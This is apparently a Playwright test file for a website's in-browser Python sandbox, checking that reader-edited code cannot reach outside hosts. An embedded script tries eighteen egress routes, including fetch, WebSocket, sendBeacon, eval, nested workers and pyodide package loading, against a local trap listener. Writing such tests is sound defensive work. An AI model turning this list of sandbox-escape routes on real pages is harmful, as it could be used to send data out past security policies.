"""Code a reader runs from "look inside" (or a shared link with code, once Run is pressed) runs in the
Python worker, under the page's own Content-Security-Policy: it cannot reach any host but the site's,
by any road a worker has. A listener on another loopback address (127.0.0.3) records every
connection that arrives; the browser's own request events are watched too (Reader)."""

from __future__ import annotations

import socket
import threading
import time

import pytest
from playwright.sync_api import expect

from tests.browser.reader import Reader, total
from widgets import sandbox

WIDGET = "widget-tariff_stack"


PAGE = "busan-meeting/"
SOURCE = sandbox.model_source("tariff_stack")
# The worker's console reports each refusal; nothing else may reach it.
REFUSALS = ("Content Security Policy", "Refused to", "Failed to fetch", "WebSocket connection")

ATTEMPTS = """

# --- everything below tries to reach another host ---
import asyncio, js
from pyodide.ffi import to_js
_TRAP = "http://127.0.0.3:%(port)d"
_SAME_ORIGIN_WORKER = "%(worker)s"  # served with no policy of its own, as static hosts do
_tried = {}

def _quiet(promise):
    promise.then(lambda _: None, lambda _: None)

def _try(name, attempt):
    try:
        result = attempt()
        if hasattr(result, "then"):
            _quiet(result)
        _tried[name] = "no error"
    except BaseException as error:
        _tried[name] = f"{type(error).__name__}: {str(error)[:100]}"

def _xhr(asynchronous):
    request = js.XMLHttpRequest.new()
    request.open("GET", _TRAP + "/xhr", asynchronous)
    request.send()

def _nested(url, message=None):
    worker = js.Worker.new(url, to_js({"type": "module"}, dict_converter=js.Object.fromEntries))
    if message:
        worker.postMessage(to_js(message, dict_converter=js.Object.fromEntries))

def _blob(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text])))

def _pyfetch():
    from pyodide.http import pyfetch
    asyncio.ensure_future(pyfetch(_TRAP + "/pyfetch")).add_done_callback(lambda task: task.exception())

def _open_url():
    from pyodide.http import open_url
    open_url(_TRAP + "/open_url")

def _load_package():
    import pyodide_js
    return pyodide_js.loadPackage(_TRAP + "/package.whl")

_try("fetch", lambda: js.fetch(_TRAP + "/fetch"))
_try("fetch no-cors", lambda: js.fetch(_TRAP + "/no-cors", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries)))
_try("XMLHttpRequest", lambda: _xhr(True))
_try("XMLHttpRequest (synchronous)", lambda: _xhr(False))
_try("WebSocket", lambda: js.WebSocket.new("ws://127.0.0.3:%(port)d/socket"))
_try("EventSource", lambda: js.EventSource.new(_TRAP + "/events"))
_try("importScripts", lambda: js.importScripts(_TRAP + "/script.js"))
_try("eval + import()", lambda: js.eval("import('" + _TRAP + "/module.js')"))
_try("Function", lambda: js.Function.new("return fetch('" + _TRAP + "/function')")())
_try("nested worker (blob:)", lambda: _nested(_blob("fetch('" + _TRAP + "/nested-blob')")))
_try("nested worker (data:)", lambda: _nested("data:text/javascript,fetch('" + _TRAP + "/nested-data')"))
_try("nested worker (same-origin URL)", lambda: _nested(_SAME_ORIGIN_WORKER, {
    "id": 1, "call": "run_edited",
    "args": ["tariff_stack", "import js\\njs.fetch('" + _TRAP + "/nested-url')", "{}"]}))
_try("pyodide.http.pyfetch", _pyfetch)
_try("pyodide.http.open_url", _open_url)
_try("pyodide.loadPackage", _load_package)
_try("Cache API", lambda: js.caches.open("bx").then(lambda cache: _quiet(cache.add(_TRAP + "/cache"))))
_try("navigator.sendBeacon", lambda: js.navigator.sendBeacon(_TRAP + "/beacon", "x"))
_try("service worker", lambda: js.navigator.serviceWorker.register(_SAME_ORIGIN_WORKER))
js.postMessage(to_js({"type": "probe", "tried": _tried}, dict_converter=js.Object.fromEntries))
"""


class Trap:
    """A TCP listener on another loopback address; records every connection (no browser can tell a
    closed connection from a refused one, so a request that "failed" still shows up here)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.3", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(200))
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n"
                    )
                except OSError:
                    self.hits.append(b"(connection)")

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


@pytest.fixture()
def trap():
    listener = Trap()
    yield listener
    listener.close()


def poll(page, expression: str, seconds: float):
    """The expression's value once it is truthy (wait_for_function would need 'unsafe-eval')."""
    deadline = time.monotonic() + seconds
    while not (value := page.evaluate(expression)):
        assert time.monotonic() < deadline, f"still nothing after {seconds} s: {expression}"
        time.sleep(0.1)
    return value


def run_attempts(reader: Reader, trap: Trap) -> dict[str, str]:
    page = reader.page
    reader.wait_python_ready(WIDGET)
    page.locator(f"#{WIDGET} .bx-inside summary").click()
    page.locator(f"#{WIDGET}-code").fill(
        SOURCE + ATTEMPTS % {"port": trap.port, "worker": reader.base + "assets/runtime/worker.js"}
    )
    page.locator(f"#{WIDGET} .bx-run").click()
    try:
        tried = poll(page, "window.__workerMessages.find(m => m?.type === 'probe')?.tried", 20)
    except AssertionError:
        raise AssertionError(page.locator(f"#{WIDGET} .bx-code-status").text_content()) from None
    # The model itself still ran: the edited version is drawn.
    expect(page.locator(f"#{WIDGET} .bx-code-status")).to_contain_text("Your version is drawn")
    # Long enough for any request, socket or nested worker to have left (a nested worker from a URL
    # would first boot its own Python: give it the time that takes, if it was started at all).
    deadline = time.monotonic() + (25 if tried.get("nested worker (same-origin URL)") == "no error" else 3)
    while time.monotonic() < deadline and not trap.hits:
        time.sleep(0.2)
    return tried


def assert_nothing_left(reader: Reader, trap: Trap, tried: dict[str, str]) -> None:
    assert len(tried) == 18, tried  # every road was tried
    assert trap.hits == [], f"reached another host: {trap.hits}\nattempts: {tried}"
    # No nested worker of any kind runs; the Python worker itself started from a blob: bootstrap.
    assert tried["nested worker (same-origin URL)"].startswith("AttributeError"), tried
    assert all(url.startswith("blob:") for url in reader.python_worker_urls()), reader.python_worker_urls()
    # Python's own ways to run JavaScript text are refused too (no 'unsafe-eval').
    assert "EvalError" in tried["eval + import()"] and "EvalError" in tried["Function"], tried


def assert_widget_still_works(page) -> None:
    page.locator(f"#{WIDGET} .bx-revert").click()
    page.locator(f"#{WIDGET}-fentanyl").focus()
    page.keyboard.press("ArrowLeft")
    expect(page.locator(f"#{WIDGET} dd[data-figure='total']")).to_have_text(total(fentanyl=-1))


def test_edited_code_cannot_reach_another_host(context, site, trap):
    reader = Reader.open(context, site.url, allowed_errors=REFUSALS)
    reader.goto(PAGE)  # the worker starts from the inline script in <head>
    tried = run_attempts(reader, trap)
    assert_nothing_left(reader, trap, tried)
    assert_widget_still_works(reader.page)
    reader.assert_clean()


def test_edited_code_cannot_reach_another_host_after_instant_navigation(context, site, trap):
    reader = Reader.open(context, site.url, allowed_errors=REFUSALS)
    page = reader.goto("sources/")  # no widget: Python's worker is started later, by python.js
    page.evaluate("() => { window.__sameDocument = true; }")
    page.locator(f"a.md-nav__link[href$='/{PAGE}'] >> visible=true").first.click()
    tried = run_attempts(reader, trap)
    assert page.evaluate("() => window.__sameDocument === true")  # instant navigation, no page load
    assert_nothing_left(reader, trap, tried)
    assert_widget_still_works(page)
    reader.assert_clean()
